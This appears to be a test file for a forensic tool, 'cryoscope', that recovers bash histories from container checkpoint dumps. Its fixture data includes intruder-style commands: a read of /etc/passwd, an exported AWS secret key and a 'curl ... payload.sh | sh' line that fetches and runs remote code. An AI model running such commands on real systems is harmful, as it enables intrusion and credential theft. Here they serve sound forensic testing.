import path from 'node:path';
import test from 'ava';
import {run} from '../support/command.js';
import {editedCheckpoint} from '../support/edited-checkpoint.js';
import {fixture, unpack} from '../support/fixtures.js';

type Row = {readonly pid: number; readonly number: number | null; readonly command: string; readonly guess: string | null; readonly address: string};

const typed = [
	[1, 1, 'id'],
	[1, 2, 'uname -a'],
	[1, 3, 'cat /etc/passwd | head -2'],
	[1, 4, 'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG'],
	[1, 5, 'curl -s http://198.51.100.7/payload.sh | sh'],
	[1, 6, 'su'],
	[10, 1, 'PS1=\'inner# \''],
	[10, 2, 'echo nested shell > /root/notes.txt'],
	[10, 3, 'base64 -d <<< aGVsbG8K'],
	[10, 4, 'loop.sh'],
] as const;

const brief = (rows: readonly Row[]) => rows.map(({pid, number, command}) => [pid, number, command]);

test('history gives the commands of podman-bash in the order typed, both shells apart, and nothing else', async t => {
	const {code, output, errors} = await run(['history', '--format', 'json', fixture('podman-bash')]);
	const rows = JSON.parse(output) as Row[];
	t.is(code, 0);
	t.deepEqual(brief(rows), typed.map(row => [...row]));
	t.true(rows.every(({guess}) => guess === null));
	t.is(errors, [
		'cryoscope: pid 12: No history was found, though it is bash by its name: a shell that runs a script keeps none.\n',
		'cryoscope: looked through memory: something in 1 bash, 10 bash; nothing in 8 su, 12 loop.sh, 14 sleep\n',
	].join(''));
	t.like(rows[0], {process: 'bash', time: '2026-11-21T01:22:49.000Z', missing: null, shell: 'bash', address: '0x55f6e215bb20', command_address: '0x55f6e215bb40', source: 'list'});
});

test('history --pid looks at these processes only', async t => {
	const {code, output, errors} = await run(['history', '--pid', '10', '--format', 'ndjson', fixture('podman-bash')]);
	t.is(code, 0);
	t.deepEqual(brief(output.trim().split('\n').map(line => JSON.parse(line) as Row)), typed.filter(([pid]) => pid === 10).map(row => [...row]));
	t.is(errors, 'cryoscope: looked through memory: something in 10 bash\n');
	t.deepEqual(await run(['history', '-p', '99', fixture('podman-bash')]), {code: 1, output: '', errors: 'cryoscope: pid 99: no such process in this checkpoint; cryoscope ps lists them\n'});
});

test('a process that was dead is said not to have been looked at', async t => {
	const {code, errors} = await run(['history', fixture('podman-zoo')]);
	t.is(code, 0);
	t.is(errors, [
		'cryoscope: looked through memory: nothing in 1 python3, 6 python3, 7 python3\n',
		'cryoscope: pid 5: The process was dead when it was dumped: its memory, its threads and what it had open were gone.\n',
	].join(''));
});

test('memory that is not in the dump is told, and costs the exit code', async t => {
	const {code, errors} = await run(['history', '-p', '7938', fixture('raw-lazy')]);
	t.is(code, 1);
	t.regex(errors, /^cryoscope: pid 7938: Not all of its memory is here, so there may have been more: 4\.3 MiB lazy: left on the source host\.$/m);
});

test('a shell whose images are damaged costs only its own history', async t => {
	const damaged = editedCheckpoint('podman-bash', {'checkpoint/mm-1.img': undefined});
	const {code, output, errors} = await run(['history', '--format', 'json', damaged]);
	t.is(code, 1);
	t.deepEqual(brief(JSON.parse(output) as Row[]), typed.filter(([pid]) => pid === 10).map(row => [...row]));
	t.regex(errors, /^cryoscope: checkpoint\/mm-1\.img: missing$/m);
	t.regex(errors, /^cryoscope: pid 1: It could not be looked at\.$/m);
});

test('a shell by another name is one by its structures', async t => {
	const renamed = editedCheckpoint('podman-bash', {'checkpoint/files.img': undefined});
	const {output} = await run(['history', '--format', 'json', renamed]);
	t.deepEqual(brief(JSON.parse(output) as Row[]), typed.map(row => [...row]));
});

test('of a pre-dump, which has memory only, the processes have no names', async t => {
	const {code, errors} = await run(['history', path.join(unpack('raw-chain'), 'pre-dump')]);
	t.is(code, 0);
	t.is(errors, 'cryoscope: looked through memory: nothing in 8099, 8101\n');
});
